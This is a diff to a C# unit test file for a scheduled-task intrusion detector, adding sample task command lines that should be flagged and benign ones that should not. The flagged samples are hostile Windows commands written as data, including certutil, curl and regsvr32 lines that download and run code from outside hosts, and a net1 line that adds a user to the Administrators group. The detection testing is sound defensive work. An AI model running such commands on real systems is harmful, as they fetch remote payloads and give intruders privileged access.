@@ -18,6 +18,12 @@ public sealed class DetectorTests
     [InlineData(@"C:\Users\Public\svchost.exe", "")]
     [InlineData("certutil.exe", "-urlcache -split -f http://203.0.113.7/a.exe C:\\a.exe")]
     [InlineData("mshta.exe", "http://203.0.113.7/a.hta")]
+    [InlineData("wscript.exe", @"//B //E:jscript D:\Intel\gp.dat")]
+    [InlineData("rundll32.exe", @"D:\ProgramData\oem\lib.dat,Start")]
+    [InlineData("regsvr32", @"/s /u /n /i:\\198.51.100.4\s\a.sct scrobj")]
+    [InlineData("cmd.exe", @"/c curl -s http://198.51.100.4/a.bat -o %PUBLIC%\a.bat & %PUBLIC%\a.bat")]
+    [InlineData(@"D:\Windows\SysWOW64\cmd.exe", @"/c start /b D:\PerfLogs\Admin\s.exe")]
+    [InlineData("net1", @"localgroup ""Administrateurs"" jean /ADD")]
     public void Tasks_that_run_an_intruders_command_are_found(string command, string arguments)
     {
         var finding = Assert.Single(Run(new ScheduledTaskDetector(), Task(@"\Update", command, arguments)));
@@ -31,6 +37,10 @@ public sealed class DetectorTests
     [InlineData(@"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe", "/c")]
     [InlineData(@"%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe", "")]
     [InlineData("powershell.exe", @"-NoProfile -File ""C:\Program Files\Microsoft\Exchange Server\V15\Scripts\Backup.ps1""")]
+    [InlineData("cmd.exe", @"/c robocopy D:\Daten \\nas01\backup /MIR /R:1 /LOG:C:\Temp\robo.log")]
+    [InlineData("powershell.exe", @"-command ""Get-ChildItem C:\Temp -Filter *.tmp | Remove-Item; Get-Mailbox | Export-Csv D:\Temp\boxes.csv""")]
+    [InlineData("rundll32.exe", @"printui.dll,PrintUIEntry /in /n \\druck01\flur")]
+    [InlineData("cmd.exe", @"/c curl -s https://status.contoso.example/ping > NUL")]
     [InlineData("%windir%\\system32\\rundll32.exe", "%windir%\\system32\\Startupscan.dll,SusRunTask")]
     public void Ordinary_tasks_stay_quiet(string command, string arguments) =>
         Assert.Empty(Run(new ScheduledTaskDetector(), Task(@"\Microsoft\Windows\Some", command, arguments)));
